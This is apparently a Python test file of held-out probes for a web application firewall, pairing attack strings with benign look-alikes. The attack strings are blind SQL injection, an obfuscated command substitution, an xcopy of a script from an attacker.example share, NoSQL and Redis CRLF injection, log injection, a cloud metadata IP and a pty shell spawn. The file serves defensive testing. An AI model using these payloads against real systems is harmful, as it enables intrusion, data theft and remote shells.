"""WAF, part 2z31: held-out probes, fifty-fourth file (README: the
sixty-second round), written for this file on 2026-12-06. No string is
taken from a corpus or a public list: each class is written here in shapes
of our own, through the real edge (shipped config, bans off).

The classes the tailoring, marina, pestcontrol and carwash corpora showed
when first replayed (at c16fcca), an attack the round refuses and a
look-alike it passes:
- char-code: a sort key's IF() on the character code of one character cut
  from the server's user; the same IF() on a column.
- printf-name: a substitution after ";" whose command prints only byte
  escapes (a name spelled to hide it); a terminal's bold escape printed
  in a sentence.
- unc-copy: a copy from a share at a public host after a separator; the
  same from a one-label LAN host.
- digit-field: an $or branch on a field named by a number alone; the
  same through an array's path.
- escaped-json-log: one token, a written "\\n", then a JSON log record;
  the same after a label and a space.
- redis-set-crlf: one token, CR LF, then a SET of a key and a value ended
  by CR LF; a sentence that starts with the word.
- metadata-ip: a metadata service's address as the whole value; its
  neighbour.
- time-label: a label that holds a time, then a command line for a
  reader; a command chained after a time and a token, that runs inline
  code.
Measured on c16fcca: 7 of the 8 attacks passed in every placement
(time-label's was refused), and 1 of the 8 look-alikes was refused
(time-label's).

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "char-code": ["IF(UNICODE(LEFT(SYSTEM_USER,1))>77,sku,qty)"],
    "printf-name": ["dock 4;`printf '\\167\\150\\157'`"],
    "unc-copy": ["| xcopy \\\\files.attacker.example\\drop\\run.cmd C:\\Temp"],
    "digit-field": ['{"$or":[{"dock":"A"},{"7":{"$ne":"z"}}]}'],
    "escaped-json-log": ['ok\\n{"ts":"2025-01-01","msg":"granted"}'],
    "redis-set-crlf": ["Q7\r\nGETSET owner mallory\r\n"],
    "metadata-ip": ["100.100.100.200"],
    "time-label": ["03:30 x; cd /tmp && python3 -c 'import pty;pty.spawn(\"sh\")'"],
}

BENIGN = {
    "char-code": ["ORDER_COL=IF(stock>77,sku,qty)"],
    "printf-name": ["colour: `printf '\\033[1m'` bold"],
    "unc-copy": ["| xcopy \\\\nas02\\drop\\run.cmd C:\\Temp"],
    "digit-field": ['{"$or":[{"dock":"A"},{"bays.7":{"$ne":"z"}}]}'],
    "escaped-json-log": ['Example: ok\\n{"ts": 1}'],
    "redis-set-crlf": ["Q7\r\nGetset owner notes for the meeting\r\nthanks"],
    "metadata-ip": ["100.100.100.201"],
    "time-label": ["Nightly at 03:30: cd reports && python3 build.py --all"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r54_attack_refused_everywhere,
 test_heldout_r54_benign_passes) = heldout_probe_tests(
    "r54", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
